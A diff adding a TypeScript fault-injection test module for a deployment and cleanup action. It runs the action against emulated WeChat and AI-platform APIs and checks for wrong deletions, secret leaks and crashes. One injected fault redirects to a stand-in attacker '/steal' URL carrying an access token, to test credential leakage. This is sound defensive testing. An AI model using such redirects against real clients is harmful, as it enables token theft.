@@ -1,0 +1,358 @@
+// The seeded fault-injection suite's parts: a tiny PRNG, the scenario generator, the setup of the
+// emulator per operation, and the invariants checked after each run from the emulator's state, the
+// outputs and the exit code. test/process/fault-injection.test.ts runs them.
+
+import type { Fault } from '../../emulator/faults.ts';
+import type { EmulatorReply } from '../../emulator/http.ts';
+import type { Emulator } from '../../emulator/server.ts';
+import { EMULATOR_AI_USER } from '../../emulator/ai.ts';
+import { EMULATOR_COMPONENT } from '../../emulator/wechat.ts';
+import { everythingShown, type ActionRun } from '../../harness/run-action.ts';
+import { AI_CODES } from '../../src/ai/codes.ts';
+import { SECRET_INPUTS } from '../../src/inputs/names.ts';
+import { ERRCODES } from '../../src/wechat/errcodes.ts';
+
+/** mulberry32: a 32-bit seeded PRNG, good enough to pick faults reproducibly. */
+export function mulberry32(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let t = a;
+    t = Math.imul(t ^ (t >>> 15), t | 1);
+    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
+    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+export const ACCESS_TOKEN = 'tok_FAULTSUITE_secret_91c4e7';
+/** Stands in an answer for a secret of the run, filled in once the run's credentials are known. */
+export const SECRET_PLACEHOLDER = '%RUN_SECRET%';
+export const IMAGE = 'ccr.ccs.tencentyun.com/shop/api:v9.9.9';
+const ENV = 'prod-env-fault01';
+const SERVICE = 'shop-api';
+const TASK = '/ai/openapi/v2/instance-service/task';
+
+export type Operation = 'deploy' | 'delete-versions' | 'clean-containers';
+export const OPERATION_ORDER: readonly Operation[] = ['deploy', 'delete-versions', 'clean-containers'];
+
+export type FaultKind =
+  | 'errcode' | 'http-5xx' | 'http-429' | 'slow' | 'drop-before-body' | 'drop-before-answer' | 'drop-after-handling'
+  | 'stall' | 'truncated-json' | 'malformed-json' | 'wrong-content-type' | 'redirect' | 'huge-body'
+  | 'errcode-as-string' | 'missing-fields' | 'echoes-secret';
+
+const KINDS: readonly FaultKind[] = [
+  'errcode', 'errcode', 'errcode', 'http-5xx', 'http-5xx', 'http-429', 'slow', 'drop-before-body', 'drop-before-answer',
+  'drop-after-handling', 'drop-after-handling', 'stall', 'truncated-json', 'malformed-json', 'wrong-content-type',
+  'redirect', 'huge-body', 'errcode-as-string', 'missing-fields', 'echoes-secret',
+];
+
+/** A fault with what the suite needs to know about it. */
+export interface PlannedFault extends Fault {
+  readonly kind: FaultKind;
+  /** The documented errcode or code it answers with, for the coverage check. */
+  readonly code?: string;
+}
+
+export interface Scenario {
+  readonly index: number;
+  readonly operation: Operation;
+  /** How the operation is set up: which credentials, which selection. */
+  readonly variant: string;
+  readonly faults: readonly PlannedFault[];
+  readonly debug: boolean;
+  /** For delete-versions "names": which versions are named. */
+  readonly named: readonly string[];
+}
+
+interface Endpoint {
+  readonly match: string;
+  readonly method?: string;
+  readonly platform: 'wechat' | 'ai';
+  /** How often faults land here, relative to the others. */
+  readonly weight: number;
+}
+
+const wx = (match: string, weight: number): Endpoint => ({ match, platform: 'wechat', weight });
+const ai = (match: string, weight: number, method?: string): Endpoint => ({ match, method, platform: 'ai', weight });
+
+function endpoints(operation: Operation, variant: string): Endpoint[] {
+  const token = variant.includes('component') ? [wx('/cgi-bin/component/api_component_token', 1)] : [];
+  switch (operation) {
+    case 'deploy':
+      return [
+        ...token, wx('getcsversionlist', 4), wx('rollupdatecloudbaserunserverversion', 2), wx('getcsversiondetail', 2),
+        ...(variant.includes('create') ? [wx('establishcloudbaserunserver', 2)] : []),
+        ...(variant.includes('traffic') ? [wx('setcspropotion', 2)] : []),
+      ];
+    case 'delete-versions':
+      return [...token, wx('getcsversionlist', 2), wx('deletecloudbaserunserverversion', 6)];
+    case 'clean-containers':
+      return [
+        ...(variant === 'password' ? [ai('/ac/openapi/v2/tokens', 1), ai('/ac/openapi/v2/center', 1)] : []),
+        ...(variant === 'access-key' ? [ai('/api/user/v3/tokens', 1), ai('/ac/openapi/v2/center', 1)] : []),
+        ai(TASK, 2, 'GET'), ai(TASK, 6, 'DELETE'),
+      ];
+  }
+}
+
+const VARIANTS: Record<Operation, readonly string[]> = {
+  deploy: ['token', 'component', 'token+traffic', 'token+create', 'component+create+traffic'],
+  'delete-versions': ['token+pattern', 'token+names', 'component+pattern', 'component+names'],
+  'clean-containers': ['token', 'password', 'access-key'],
+};
+
+const WECHAT_CODES = Object.keys(ERRCODES);
+const AI_CODE_LIST = Object.keys(AI_CODES);
+
+/** The scenarios of one seeded run: operations in turn, each with several faults on its endpoints. */
+export function generateScenarios(seed: number, count: number, attackerUrl: string): Scenario[] {
+  const random = mulberry32(seed);
+  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
+  const cursor = { wechat: 0, ai: 0, status: 0 };
+  const uncovered: Partial<Record<Operation, string[]>> = { 'delete-versions': [...WECHAT_CODES], 'clean-containers': [...AI_CODE_LIST] };
+  const scenarios: Scenario[] = [];
+  for (let index = 0; index < count; index++) {
+    const operation = OPERATION_ORDER[index % OPERATION_ORDER.length]!;
+    const variant = pick(VARIANTS[operation]);
+    const places = endpoints(operation, variant);
+    // Until every documented code was answered once, a run answers the next one to its deletes
+    // (always reached, and failing only that batch), with its other faults there too.
+    const covering = uncovered[operation]?.shift();
+    const weighted = (covering ? places.slice(-1) : places).flatMap((e) => Array<Endpoint>(e.weight).fill(e));
+    const faults = Array.from({ length: 3 + Math.floor(random() * 5) }, () => {
+      const endpoint = pick(weighted);
+      return makeFault(pick(KINDS), endpoint, random, cursor, attackerUrl);
+    });
+    if (covering) faults.unshift(makeFault('errcode', places.at(-1)!, random, cursor, attackerUrl, covering));
+    const named = operation === 'delete-versions' && variant.endsWith('names')
+      ? [...OLD_VERSIONS.filter(() => random() < 0.6), ...(random() < 0.3 ? [pick(PROTECTED_VERSIONS)] : [])]
+      : [];
+    scenarios.push({ index, operation, variant, faults, debug: random() < 0.3, named: named.length ? named : [OLD_VERSIONS[0]!] });
+  }
+  return scenarios;
+}
+
+function makeFault(
+  kind: FaultKind, at: Endpoint, random: () => number, cursor: { wechat: number; ai: number; status: number }, attackerUrl: string, errcode?: string,
+): PlannedFault {
+  const where = { match: at.match, ...(at.method ? { method: at.method } : {}) };
+  const landed = random() < 0.5;
+  const raw = (status: number, body: string, headers?: Record<string, string>): EmulatorReply => ({ status, raw: body, ...(headers ? { headers } : {}) });
+  const wechat = at.platform === 'wechat';
+  switch (kind) {
+    case 'errcode': {
+      const code = errcode ?? (wechat ? WECHAT_CODES[cursor.wechat++ % WECHAT_CODES.length]! : AI_CODE_LIST[cursor.ai++ % AI_CODE_LIST.length]!);
+      const json = wechat ? { errcode: Number(code), errmsg: 'injected errcode' } : { code, msg: 'injected code', data: null };
+      return { kind, code, ...where, afterHandling: landed, reply: { status: 200, json } };
+    }
+    case 'http-5xx': {
+      const status = [500, 502, 503, 504][cursor.status++ % 4]!;
+      // Gateways often quote the request URL in their error page: with the token in it.
+      const body = random() < 0.5 ? `upstream error for ${at.match}?access_token=${SECRET_PLACEHOLDER}` : '';
+      return { kind, ...where, afterHandling: landed, reply: raw(status, body, { 'content-type': 'text/plain' }) };
+    }
+    case 'http-429':
+      return { kind, ...where, reply: { status: 429, json: { errcode: -1, code: '429', msg: 'too many requests' } } };
+    case 'slow':
+      return { kind, ...where, delayMs: 1_300 };
+    case 'drop-before-body':
+      return { kind, ...where, dropBeforeBody: true };
+    case 'drop-before-answer':
+      return { kind, ...where, drop: true };
+    case 'drop-after-handling':
+      return { kind, ...where, drop: true, afterHandling: true };
+    case 'stall':
+      return { kind, ...where, stallAfterBytes: 7 };
+    case 'truncated-json':
+      return { kind, ...where, afterHandling: landed, reply: raw(200, wechat ? '{"errcode":0,"errmsg":"ok","ite' : '{"code":"0","msg":"success","da') };
+    case 'malformed-json':
+      return { kind, ...where, afterHandling: landed, reply: raw(200, "{errcode: 0, 'not': json}") };
+    case 'wrong-content-type':
+      return { kind, ...where, afterHandling: landed, reply: raw(200, '<html><body><h1>502 Bad Gateway</h1></body></html>', { 'content-type': 'text/html' }) };
+    case 'redirect': {
+      const status = [301, 302, 307, 308][cursor.status++ % 4]!;
+      return { kind, ...where, afterHandling: landed, reply: raw(status, '', { location: `${attackerUrl}/steal?access_token=${ACCESS_TOKEN}` }) };
+    }
+    case 'huge-body':
+      return { kind, ...where, afterHandling: landed, reply: raw(200, `{"errcode":0,"pad":"${'x'.repeat(9 * 1024 * 1024)}"}`) };
+    case 'errcode-as-string':
+      return {
+        kind, ...where, afterHandling: landed,
+        reply: { status: 200, json: wechat ? { errcode: random() < 0.5 ? '40097' : 'busy', errmsg: 'errcode sent as a string' } : { code: 10001, msg: 'code sent as a number' } },
+      };
+    case 'missing-fields':
+      // Without the field that says how the call went (an answer with code "0" is a success, whatever else it lacks).
+      return { kind, ...where, afterHandling: landed, reply: { status: 200, json: wechat ? {} : { msg: 'success', data: null } } };
+    case 'echoes-secret':
+      return {
+        kind, ...where,
+        reply: { status: 200, json: wechat ? { errcode: 40014, errmsg: `invalid access_token ${SECRET_PLACEHOLDER}` } : { code: '10009', msg: `token rejected: ${SECRET_PLACEHOLDER}` } },
+      };
+  }
+}
+
+// --- Setup per operation ---------------------------------------------------------------------
+
+const DAY = 86_400_000;
+const OLD_VERSIONS = ['old-001', 'old-002', 'old-003', 'old-004', 'old-005', 'old-006'];
+const PROTECTED_VERSIONS = ['old-900', 'old-901', 'current'];
+
+/** What a scenario may and must change. */
+export interface Expectation {
+  /** Resources the run may delete. */
+  readonly selected: ReadonlySet<string>;
+  /** Resources that must never be deleted. */
+  readonly protectedNames: ReadonlySet<string>;
+  /** Named by the user although protected: must be reported as failed. */
+  readonly refused: ReadonlySet<string>;
+  readonly before: ReadonlySet<string>;
+}
+
+/** Seeds the emulator for the scenario; returns the action's inputs and what may change. */
+export function setUp(emu: Emulator, scenario: Scenario): { inputs: Record<string, string>; expect: Expectation } {
+  const network = { request_timeout: '1s', retry_budget: '3s' };
+  const wechatCredentials: Record<string, string> = scenario.variant.includes('component') ? { ...EMULATOR_COMPONENT } : { access_token: ACCESS_TOKEN };
+  emu.wechat.tokens.add(ACCESS_TOKEN);
+  switch (scenario.operation) {
+    case 'deploy': {
+      const creating = scenario.variant.includes('create');
+      emu.wechat.rollout = { buildMs: 20, deployMs: 20, outcome: 'ok' };
+      const service = emu.wechat.addService(ENV, SERVICE, [
+        { version_name: 'shop-api-001', created_time: new Date(Date.now() - 2 * DAY), image_url: 'ccr.ccs.tencentyun.com/shop/api:v1' },
+        { version_name: 'shop-api-002', created_time: new Date(Date.now() - DAY), image_url: 'ccr.ccs.tencentyun.com/shop/api:v2', flow_ratio: 100 },
+      ]);
+      const inputs: Record<string, string> = {
+        operation: 'deploy', wechat_api_url: emu.url, ...wechatCredentials, ...network, env_id: ENV,
+        service_name: creating ? 'fresh-svc' : SERVICE, create_service: String(creating), image: IMAGE,
+        poll_interval: '20ms', timeout: '4s', ...(scenario.variant.includes('traffic') ? { traffic: '100' } : {}),
+      };
+      // A rollout of shop-api replaces shop-api-002; shop-api-001 must survive whatever happens.
+      const before = new Set(service.versions.map((v) => v.version_name));
+      return { inputs, expect: { selected: new Set(creating ? [] : ['shop-api-002']), protectedNames: new Set(['shop-api-001']), refused: new Set(), before } };
+    }
+    case 'delete-versions': {
+      const versions = [
+        { version_name: 'keep-001', days: 60 },
+        ...OLD_VERSIONS.map((version_name, i) => ({ version_name, days: 50 - i * 5 })),
+        { version_name: 'old-900', days: 15, flow_ratio: 30 },
+        { version_name: 'old-901', days: 12, status: 'building' },
+        { version_name: 'keep-002', days: 5 },
+        { version_name: 'current', days: 1, flow_ratio: 70 },
+      ];
+      emu.wechat.addService(ENV, SERVICE, versions.map(({ days, ...v }) => ({ ...v, created_time: new Date(Date.now() - days * DAY) })));
+      const byNames = scenario.variant.endsWith('names');
+      const selection: Record<string, string> = byNames ? { versions: scenario.named.join('\n') } : { version_pattern: 'old-*', older_than: '1d' };
+      const selected = byNames ? scenario.named.filter((n) => OLD_VERSIONS.includes(n)) : OLD_VERSIONS;
+      const inputs = { operation: 'delete-versions', wechat_api_url: emu.url, ...wechatCredentials, ...network, env_id: ENV, service_name: SERVICE, ...selection };
+      return {
+        inputs,
+        expect: {
+          selected: new Set(selected),
+          protectedNames: new Set(PROTECTED_VERSIONS),
+          refused: new Set(scenario.named.filter((n) => byNames && PROTECTED_VERSIONS.includes(n))),
+          before: new Set(versions.map((v) => v.version_name)),
+        },
+      };
+    }
+    case 'clean-containers': {
+      const finished = emu.ai.addContainers(8, { status: 'Terminated', instanceServiceName: 'nightly-train' });
+      const running = emu.ai.addContainers(3, { status: 'Running', instanceServiceName: 'nightly-serve' });
+      const others = emu.ai.addContainers(3, { status: 'Completed', instanceServiceName: 'keep-notebook' });
+      const explicit = others.slice(0, 2).map((c) => c.id);
+      const credentials: Record<string, string> =
+        scenario.variant === 'token' ? { ai_api_url: emu.url, ai_token: emu.ai.issueToken() }
+        : scenario.variant === 'password' ? { ac_api_url: emu.url, ai_user: EMULATOR_AI_USER.ai_user, ai_password: EMULATOR_AI_USER.ai_password, ai_org_id: EMULATOR_AI_USER.ai_org_id }
+        : { ac_api_url: emu.url, scnet_api_url: emu.url, ai_user: EMULATOR_AI_USER.ai_user, ai_access_key: EMULATOR_AI_USER.ai_access_key, ai_secret_key: EMULATOR_AI_USER.ai_secret_key };
+      const inputs = {
+        operation: 'clean-containers', ...credentials, ...network, container_ids: explicit.join('\n'),
+        container_status: 'Terminated', container_name_pattern: 'nightly-*', batch_size: '3', concurrency: '3',
+      };
+      return {
+        inputs,
+        expect: {
+          selected: new Set([...finished.map((c) => c.id), ...explicit]),
+          protectedNames: new Set(running.map((c) => c.id)),
+          refused: new Set(),
+          before: new Set(emu.ai.containers.keys()),
+        },
+      };
+    }
+  }
+}
+
+// --- Invariants ------------------------------------------------------------------------------
+
+export interface Verdict {
+  readonly wronglyDeleted: string[];
+  readonly protectedDeleted: string[];
+  /** Selected resources neither deleted nor reported failed; claims that disagree with the state. */
+  readonly unreported: string[];
+  readonly leaks: string[];
+  readonly crashes: string[];
+}
+
+/** The seeded resources that exist now: containers by ID, or the versions of the seeded service. */
+export function remaining(emu: Emulator, operation: Operation): Set<string> {
+  if (operation === 'clean-containers') return new Set(emu.ai.containers.keys());
+  return new Set(emu.wechat.service(ENV, SERVICE)?.versions.map((v) => v.version_name) ?? []);
+}
+
+/** Every secret of a run: its secret inputs, and the tokens the emulator issued to it. */
+export function secretsOf(emu: Emulator, inputs: Record<string, string>): string[] {
+  const given = SECRET_INPUTS.map((name) => inputs[name] ?? '').filter(Boolean);
+  return [...given, ...[...emu.wechat.tokens].filter((t) => t !== ACCESS_TOKEN), ...emu.ai.tokens.keys()];
+}
+
+/** The faults of a scenario with the run's own secret where an answer echoes one. */
+export function withRunSecret(faults: readonly PlannedFault[], inputs: Record<string, string>): PlannedFault[] {
+  const secret = SECRET_INPUTS.map((name) => inputs[name]).find(Boolean) ?? '';
+  return faults.map((f) => (f.kind === 'echoes-secret' || f.kind === 'http-5xx' ? JSON.parse(JSON.stringify(f).replaceAll(SECRET_PLACEHOLDER, secret)) as PlannedFault : f));
+}
+
+export function judge(emu: Emulator, scenario: Scenario, inputs: Record<string, string>, expect: Expectation, run: ActionRun): Verdict {
+  const verdict: Verdict = { wronglyDeleted: [], protectedDeleted: [], unreported: [], leaks: [], crashes: [] };
+  const now = remaining(emu, scenario.operation);
+  const gone = [...expect.before].filter((name) => !now.has(name));
+  verdict.protectedDeleted.push(...gone.filter((n) => expect.protectedNames.has(n)));
+  verdict.wronglyDeleted.push(...gone.filter((n) => !expect.selected.has(n)));
+
+  const shown = everythingShown(run);
+  verdict.leaks.push(...secretsOf(emu, inputs).filter((secret) => shown.includes(secret)));
+  const noise = `${run.stdout}\n${run.stderr}`;
+  if (/^\s+at .+:\d+:\d+\)?$/m.test(noise)) verdict.crashes.push('a stack trace was shown');
+  if (/unhandled/i.test(noise)) verdict.crashes.push('an unhandled error was shown');
+  if (run.code !== 0 && run.code !== 1) verdict.crashes.push(`exit code ${run.code}`);
+  if (run.code !== 0 && !/^::error::/m.test(run.stdout)) verdict.unreported.push('the step failed without an error annotation');
+
+  if (scenario.operation === 'deploy') judgeDeploy(emu, inputs, run, verdict);
+  else judgeDeletion(scenario.operation, expect, run, gone, verdict);
+  return verdict;
+}
+
+function judgeDeploy(emu: Emulator, inputs: Record<string, string>, run: ActionRun, verdict: Verdict): void {
+  if (emu.wechat.runs.size > 1) verdict.unreported.push(`${emu.wechat.runs.size} rolling updates started for one deploy`);
+  if (run.code !== 0) return;
+  const version = emu.wechat.service(ENV, inputs.service_name!)?.versions.find((v) => v.version_name === run.outputs.version_name);
+  if (emu.wechat.runs.size !== 1 || !emu.wechat.runs.has(run.outputs.run_id ?? '')) verdict.unreported.push('success without the rolling update it reports');
+  if (run.outputs.status !== 'normal' || version?.status !== 'normal' || version.image_url !== IMAGE) {
+    verdict.unreported.push(`success, but version ${run.outputs.version_name} is ${version?.status ?? 'missing'} with ${version?.image_url ?? 'no image'}`);
+  }
+}
+
+function judgeDeletion(operation: Operation, expect: Expectation, run: ActionRun, gone: readonly string[], verdict: Verdict): void {
+  const [deletedOutput, failedOutput] = operation === 'clean-containers' ? ['deleted_containers', 'failed_containers'] : ['deleted_versions', 'failed_versions'];
+  if (run.outputs[deletedOutput] === undefined) {
+    // The run stopped before deciding what to delete: then it must have deleted nothing and failed.
+    if (gone.length) verdict.unreported.push(`deleted ${gone.join(', ')} without outputs`);
+    if (run.code === 0) verdict.unreported.push('success without outputs');
+    return;
+  }
+  const claimed = new Set(JSON.parse(run.outputs[deletedOutput]!) as string[]);
+  const failed = new Set((JSON.parse(run.outputs[failedOutput]!) as Record<string, string>[]).map((f) => f.id ?? f.version_name!));
+  for (const name of claimed) if (!gone.includes(name)) verdict.unreported.push(`${name} reported deleted but still there`);
+  for (const name of gone) if (!claimed.has(name) && !failed.has(name)) verdict.unreported.push(`${name} deleted without being reported`);
+  for (const name of [...expect.selected, ...expect.refused]) {
+    if (!gone.includes(name) && !failed.has(name)) verdict.unreported.push(`${name} neither deleted nor reported failed`);
+  }
+  if ((run.code === 0) !== (failed.size === 0)) verdict.unreported.push(`exit code ${run.code} with ${failed.size} failures reported`);
+}
